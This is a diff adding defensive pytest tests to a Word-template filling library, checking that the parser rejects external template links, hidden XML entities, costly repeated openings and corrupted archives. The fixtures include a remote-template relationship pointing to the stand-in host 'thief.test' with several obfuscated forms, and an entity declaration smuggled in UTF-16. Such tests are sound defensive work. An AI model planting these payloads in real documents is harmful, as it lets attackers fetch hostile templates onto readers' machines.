@@ -1,5 +1,6 @@
 """Own papers as files of Word: places filled, loops repeated, nothing run and nothing fetched."""
 
+import time
 import zipfile
 from decimal import Decimal
 from io import BytesIO
@@ -168,3 +169,43 @@ def test_values_cannot_bring_pieces_or_signs_that_xml_refuses():
     opened = open_docx(docx(paragraph(run("{{ x }}"))))
     with pytest.raises(DocxProblem):
         fill_docx(opened, lambda _source: "<br>")
+
+
+RELATIONS = "word/_rels/document.xml.rels"
+TEMPLATE = (
+    '<Relationships xmlns="r"><Relationship Id="1" Type="http://x/relationships/attachedTemplate"'
+    ' Target="http://thief.test/a.dotm" TargetMode="{}"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "mode"), [(RELATIONS, "&#69;xternal"), (RELATIONS, " External"), (RELATIONS.upper(), "External")]
+)
+def test_what_is_fetched_from_elsewhere_is_found_however_it_is_written(name, mode):
+    with pytest.raises(DocxProblem) as refused:
+        open_docx(docx(paragraph(run("Договор")), **{name: TEMPLATE.format(mode)}))
+    assert refused.value.code == "outer"
+
+
+def test_a_file_of_nothing_but_openings_costs_no_more_than_its_length():
+    began = time.process_time()
+    opened = open_docx(docx(paragraph(run("{{" * 20_000 + "{% for " * 20_000))))
+    assert time.process_time() - began < 2  # it was half a minute
+    assert len(opened.sources["word/document.xml"]) < 20
+
+
+def test_two_bytes_a_sign_hide_no_entities():
+    told = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "e">]><w:document {SPACE}>&e;</w:document>'
+    with pytest.raises(DocxProblem) as refused:
+        open_docx(docx(**{"word/header1.xml": told.encode("utf-16-le")}))
+    assert refused.value.code == "not_docx"
+
+
+def test_a_file_packed_as_word_never_packs_is_none():
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as archive:
+        archive.writestr("word/document.xml", f"<w:document {SPACE}/>" + " " * 2_000)
+    body = bytearray(out.getvalue())
+    body[70:90] = b"\xff" * 20
+    with pytest.raises(DocxProblem):
+        open_docx(bytes(body))
